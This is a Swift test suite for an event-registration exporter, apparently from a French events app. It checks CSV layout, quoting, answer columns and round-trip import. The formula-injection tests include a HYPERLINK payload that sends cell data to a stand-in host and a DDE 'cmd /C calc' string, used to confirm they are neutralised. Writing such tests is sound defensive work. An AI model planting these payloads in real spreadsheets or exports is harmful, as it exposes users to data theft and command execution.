import AgendaModel
import CSV
import Foundation
import Testing
import TestSupport

private let catalogue = Catalogue(events: [
    makeEvent(id: "journee-armenie", title: "Journée Arménie : Փարիզ – Երևան", kind: .other, start: "2027-06-17",
              registration: RegistrationRules(modes: [.onsite, .online])),
])

private func registration(id: String = "1", eventID: String = "journee-armenie", firstName: String = "Anahit",
                          lastName: String = "Sargsyan", email: String = "anahit@example.org", phone: String? = nil,
                          organisation: String = "Ville d'Alfortville", note: String = "",
                          answers: [String: Answer] = [:]) -> Registration {
    Registration(id: id, eventId: eventID, status: .pending, createdAt: "2026-11-04T18:02:00+01:00",
                 updatedAt: "2026-11-05T09:00:00+01:00", source: .form,
                 participant: Participant(firstName: firstName, lastName: lastName, email: email, phone: phone,
                                          organisation: organisation, role: nil),
                 mode: .onsite, answers: answers, consent: true, note: note,
                 history: [.init(at: "2026-11-04T18:02:00+01:00", from: nil, to: .pending)])
}

/// The exported CSV read back with the CSV library, as a spreadsheet would: header and rows.
private func readBack(_ bytes: [UInt8]) throws -> (header: [String], rows: [[String]]) {
    #expect(Array(bytes.prefix(3)) == RegistrationExport.byteOrderMark)
    let text = String(decoding: bytes.dropFirst(3), as: UTF8.self)
    let reader = try CSVReader(string: text, hasHeaderRow: true, delimiter: ";")
    var rows: [[String]] = []
    while let row = reader.next() { rows.append(row) }
    return (reader.headerRow ?? [], rows)
}

@Suite("Registration export")
struct RegistrationExportTests {
    @Test("formula starters get a ' in front; other text is left alone", arguments: [
        ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"), ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-3", "'-3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tTab", "'\tTab"), ("\rCR", "'\rCR"),
        ("Élodie", "Élodie"), ("", ""), (" =1", " =1"), ("a=b", "a=b"), ("'déjà", "'déjà"), ("花子", "花子"),
    ])
    func neutralised(input: String, expected: String) {
        #expect(SpreadsheetCell.neutralised(input) == expected)
    }

    @Test("the CSV is for a French spreadsheet: BOM, ;, CRLF, the import's column names")
    func csvLayout() throws {
        let bytes = RegistrationExport.csv([registration()], catalogue: catalogue)
        let text = String(decoding: bytes, as: UTF8.self)
        #expect(text.hasPrefix("\u{FEFF}eventId;eventTitle;status;firstName;lastName;email;phone;organisation;role;mode;consent;createdAt;updatedAt;note\r\n"))
        #expect(text == "\u{FEFF}eventId;eventTitle;status;firstName;lastName;email;phone;organisation;role;mode;consent;createdAt;updatedAt;note\r\n"
            + "journee-armenie;Journée Arménie : Փարիզ – Երևան;pending;Anahit;Sargsyan;anahit@example.org;;Ville d'Alfortville;;onsite;true;2026-11-04T18:02:00+01:00;2026-11-05T09:00:00+01:00;\r\n")
    }

    @Test("an empty selection is the header alone")
    func emptyCSV() {
        let text = String(decoding: RegistrationExport.csv([]), as: UTF8.self)
        #expect(text == "\u{FEFF}" + RegistrationExport.csvColumns.joined(separator: ";") + "\r\n")
    }

    @Test("a name that is a formula comes out as text")
    func formulaInjection() throws {
        let evil = registration(firstName: #"=HYPERLINK("http://evil.example/?x="&A1,"clic")"#, lastName: "@SUM(1+1)*cmd|' /C calc'!A0",
                                phone: "+33 6 12 34 56 78", note: "-2+3")
        let (header, rows) = try readBack(RegistrationExport.csv([evil]))
        let row = Dictionary(uniqueKeysWithValues: zip(header, rows[0]))
        #expect(row["firstName"] == #"'=HYPERLINK("http://evil.example/?x="&A1,"clic")"#)
        #expect(row["lastName"] == "'@SUM(1+1)*cmd|' /C calc'!A0")
        #expect(row["phone"] == "'+33 6 12 34 56 78")
        #expect(row["note"] == "'-2+3")
        #expect(rows[0].allSatisfy { cell in cell.first.map { !"=+-@\t\r".contains($0) } ?? true })
    }

    @Test("separators, quotes and line breaks inside values survive the CSV library's reading")
    func quotingRoundTrip() throws {
        let tricky = registration(firstName: #"Jean "JB""#, organisation: "Ville de Lyon; DRI, pôle « Europe »",
                                  note: "Ligne 1\nLigne 2 ; \"citée\"\r\nLigne 3")
        let (header, rows) = try readBack(RegistrationExport.csv([tricky, registration(id: "2", email: "b@example.org")], catalogue: catalogue))
        #expect(rows.count == 2)
        let row = Dictionary(uniqueKeysWithValues: zip(header, rows[0]))
        #expect(row["firstName"] == #"Jean "JB""#)
        #expect(row["organisation"] == "Ville de Lyon; DRI, pôle « Europe »")
        #expect(row["note"] == "Ligne 1\nLigne 2 ; \"citée\"\r\nLigne 3")
        #expect(row["eventTitle"] == "Journée Arménie : Փարիզ – Երևան")
    }

    @Test("answers get one column each, sorted; choices, yes/no and numbers as a spreadsheet reads them")
    func answerColumns() throws {
        let bytes = RegistrationExport.csv([
            registration(answers: ["modules": .choices(["Cadre juridique", "Financements"]), "dejeuner": .flag(true)]),
            registration(id: "2", email: "b@example.org", answers: ["anciennete": .number(2.5), "dejeuner": .flag(false)]),
        ])
        let (header, rows) = try readBack(bytes)
        #expect(Array(header.suffix(3)) == ["answer.anciennete", "answer.dejeuner", "answer.modules"])
        #expect(Array(rows[0].suffix(3)) == ["", "true", "Cadre juridique | Financements"])
        #expect(Array(rows[1].suffix(3)) == ["2,5", "false", ""])
    }

    @Test("an event that left the catalogue has an empty title, and no catalogue means no titles")
    func orphanTitle() throws {
        let (header, rows) = try readBack(RegistrationExport.csv([registration(eventID: "ancien")], catalogue: catalogue))
        #expect(Dictionary(uniqueKeysWithValues: zip(header, rows[0]))["eventTitle"] == "")
        let (_, untitled) = try readBack(RegistrationExport.csv([registration()]))
        #expect(untitled[0][1] == "")
    }

    @Test("an exported CSV imports back to the same registrations")
    func csvImportsBack() throws {
        let originals = [
            registration(firstName: "=1+1", phone: "+374 10 52 15 12", note: "Deux lignes\net ; un point-virgule",
                         answers: ["modules": .choices(["Cadre juridique"]), "collectivite-partenaire": .text("Goris")]),
            registration(id: "2", firstName: "Արմեն", lastName: "Հակոբյան", email: "armen@example.org"),
        ]
        let reading = try RegistrationImport.parse(bytes: RegistrationExport.csv(originals, catalogue: catalogue), fileName: "export.csv")
        #expect(reading.ignoredColumns.isEmpty)
        let plan = RegistrationImport.plan(reading, catalogue: catalogue, existing: [], now: moment("2026-11-23T10:15:00+01:00")) { "new" }
        #expect(plan.refused.isEmpty)
        #expect(plan.added.map(\.participant) == originals.map(\.participant))
        #expect(plan.added.map(\.note) == originals.map(\.note))
        #expect(plan.added.map(\.createdAt) == originals.map(\.createdAt))
        #expect(plan.added.map(\.mode) == originals.map(\.mode))
        // The event has no such questions: the answers come back as the text written.
        #expect(plan.added[0].answers == ["modules": .text("Cadre juridique"), "collectivite-partenaire": .text("Goris")])
    }

    @Test("JSON is the store's format, and imports back")
    func json() throws {
        let originals = [registration(answers: ["assises": .text("Oui"), "nombre": .number(3)]), registration(id: "2", email: "b@example.org")]
        let bytes = RegistrationExport.json(originals)
        let object = try #require(try JSONSerialization.jsonObject(with: Data(bytes)) as? [String: Any])
        #expect(object["schemaVersion"] as? Int == 1)
        let listed = try #require(object["registrations"] as? [[String: Any]])
        #expect(listed.map { $0["id"] as? String } == ["1", "2"])
        #expect(String(decoding: bytes, as: UTF8.self).contains(#""from" : null"#))
        let plan = RegistrationImport.plan(try RegistrationImport.parse(bytes: bytes, fileName: "export.json"), catalogue: catalogue,
                                           existing: [], now: moment("2026-11-23T10:15:00+01:00")) { "new" }
        #expect(plan.added.map(\.participant) == originals.map(\.participant))
        #expect(plan.added[0].answers == originals[0].answers)
    }
}
